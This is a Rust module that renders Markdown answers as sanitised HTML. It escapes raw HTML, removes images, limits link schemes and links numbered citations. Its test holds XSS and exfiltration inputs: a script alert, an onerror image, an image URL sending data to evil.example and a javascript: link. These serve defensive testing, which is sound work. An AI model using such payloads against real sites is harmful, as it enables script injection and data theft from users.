//! Markdown to HTML, and the one sanitiser. Whatever stands in an answer, only this module's output reaches a page.
//!
//! Raw HTML is shown as text. Pictures are left out, because the address of a picture can carry data away. Links lead to the
//! web in a window of their own, or to a numbered source of the answer.

pub mod passage;

use std::{borrow::Cow, sync::OnceLock};

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, TextMergeStream};

/// What a citation's link begins with; the interface opens the source of that number.
pub const CITATION_HREF: &str = "#cite-";

fn options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

/// The byte ranges of the top-level blocks of a Markdown text, in order.
///
/// Every byte belongs to at most one block; what lies between is white space and link definitions.
pub fn block_ranges(markdown: &str) -> Vec<std::ops::Range<usize>> {
    let mut depth = 0usize;
    let mut blocks: Vec<std::ops::Range<usize>> = Vec::new();
    for (event, range) in Parser::new_ext(markdown, options()).into_offset_iter() {
        match event {
            Event::Start(_) => {
                if depth == 0 {
                    blocks.push(range);
                }
                depth += 1;
            }
            Event::End(_) => depth = depth.saturating_sub(1),
            _ if depth == 0 => blocks.push(range),
            _ => {}
        }
    }
    blocks
}

/// The text as sanitised HTML, block by block. `sources` is how many numbered sources the text may refer to.
pub fn blocks(markdown: &str, sources: u32) -> Vec<String> {
    block_ranges(markdown)
        .into_iter()
        .filter_map(|range| markdown.get(range))
        .map(|block| html(block, sources))
        .collect()
}

/// One piece of Markdown as sanitised HTML.
pub fn html(markdown: &str, sources: u32) -> String {
    let mut in_code_block = false;
    let mut in_link = 0usize;
    let mut in_image = 0usize;
    let mut out = Vec::new();
    for event in TextMergeStream::new(Parser::new_ext(markdown, options())) {
        match event {
            Event::Start(Tag::Image { .. }) => in_image += 1,
            Event::End(TagEnd::Image) => in_image = in_image.saturating_sub(1),
            // The words that describe a picture stay; the picture does not.
            Event::Html(raw) | Event::InlineHtml(raw) => out.push(Event::Text(raw)),
            Event::Text(text) if !in_code_block && in_link == 0 && in_image == 0 => cite(&text, sources, &mut out),
            other => {
                match &other {
                    Event::Start(Tag::CodeBlock(_)) => in_code_block = true,
                    Event::End(TagEnd::CodeBlock) => in_code_block = false,
                    Event::Start(Tag::Link { .. }) => in_link += 1,
                    Event::End(TagEnd::Link) => in_link = in_link.saturating_sub(1),
                    _ => {}
                }
                out.push(other);
            }
        }
    }
    let mut rendered = String::with_capacity(markdown.len() * 2);
    pulldown_cmark::html::push_html(&mut rendered, out.into_iter());
    sanitiser().clean(&rendered).to_string()
}

/// Turns `[3]` into a link to source 3 where there is one.
fn cite<'a>(text: &str, sources: u32, out: &mut Vec<Event<'a>>) {
    let mut rest = text;
    while let Some(open) = rest.find('[') {
        let after = &rest[open + 1..];
        let digits = after.bytes().take_while(u8::is_ascii_digit).count();
        let number: Option<u32> = after.get(..digits).and_then(|text| text.parse().ok());
        match number.filter(|n| after[digits..].starts_with(']') && (1..=sources).contains(n)) {
            Some(number) => {
                out.push(Event::Text(CowStr::from(rest[..open].to_owned())));
                out.push(Event::InlineHtml(CowStr::from(format!(
                    "<a class=\"cite\" href=\"{CITATION_HREF}{number}\">{number}</a>"
                ))));
                rest = &after[digits + 1..];
            }
            None => {
                out.push(Event::Text(CowStr::from(rest[..=open].to_owned())));
                rest = after;
            }
        }
    }
    if !rest.is_empty() {
        out.push(Event::Text(CowStr::from(rest.to_owned())));
    }
}

fn sanitiser() -> &'static ammonia::Builder<'static> {
    static SANITISER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    SANITISER.get_or_init(|| {
        let mut builder = ammonia::Builder::empty();
        builder
            .add_tags([
                "a",
                "blockquote",
                "br",
                "code",
                "del",
                "em",
                "h1",
                "h2",
                "h3",
                "h4",
                "h5",
                "h6",
                "hr",
                "input",
                "li",
                "mark",
                "ol",
                "p",
                "pre",
                "strong",
                "table",
                "tbody",
                "td",
                "th",
                "thead",
                "tr",
                "ul",
            ])
            .add_tag_attributes("a", ["href"])
            .add_tag_attributes("ol", ["start"])
            .add_tag_attributes("input", ["checked", "disabled"])
            .add_tag_attribute_values("input", "type", ["checkbox"])
            .add_allowed_classes("a", ["cite"])
            .link_rel(Some("noopener noreferrer nofollow"))
            .set_tag_attribute_value("input", "disabled", "")
            .url_schemes(["http", "https", "mailto"].into())
            .url_relative(ammonia::UrlRelative::Custom(Box::new(only_citations)))
            .attribute_filter(outside_links_only_by_scheme)
            .clean_content_tags(["script", "style"].into());
        builder
    })
}

/// Of the addresses without a scheme only those of citations stay: anything else would lead into the application.
fn only_citations(url: &str) -> Option<Cow<'_, str>> {
    let number = url.strip_prefix(CITATION_HREF)?;
    number.bytes().all(|b| b.is_ascii_digit()).then_some(Cow::Borrowed(url))
}

fn outside_links_only_by_scheme<'u>(element: &str, attribute: &str, value: &'u str) -> Option<Cow<'u, str>> {
    if (element, attribute) == ("a", "href") && value.chars().any(char::is_control) {
        return None;
    }
    Some(Cow::Borrowed(value))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn citations_become_links_where_there_is_a_source() {
        let html = html("It is so [1], not so [2][3] and `[1]`.", 2);
        assert!(html.contains("so <a class=\"cite\" href=\"#cite-1\""), "{html}");
        assert!(
            html.contains("href=\"#cite-2\"") && html.contains("[3]") && html.contains("<code>[1]</code>"),
            "{html}"
        );
    }

    #[test]
    fn nothing_active_survives() {
        for bad in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![alt](https://evil.example/?data=1)",
            "[a](javascript:alert(1))",
            "[a](//evil.example)",
            "[a](/api/v1/users)",
            "<a href=\"#cite-1\" onclick=\"x()\">y</a>",
            "<svg><style>*{}</style></svg>",
        ] {
            let html = html(bad, 3);
            for needle in ["<script", "<img", "<svg", "javascript:", "href=\"/", "<style"] {
                assert!(!html.contains(needle), "{bad} → {html}");
            }
        }
    }

    #[test]
    fn blocks_are_independent() {
        let text = "First *one*.\n\n- a\n- b\n\n```rust\nlet x = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n";
        let rendered = blocks(text, 0);
        assert_eq!(rendered.len(), 4);
        assert!(rendered[1].starts_with("<ul>") && rendered[2].contains("<pre>") && rendered[3].contains("<table>"));
    }

    #[test]
    fn ranges_cover_in_order() {
        let text = "# A\n\ntext\n---\nmore";
        let ranges = block_ranges(text);
        assert!(ranges.windows(2).all(|pair| pair[0].end <= pair[1].start));
    }
}
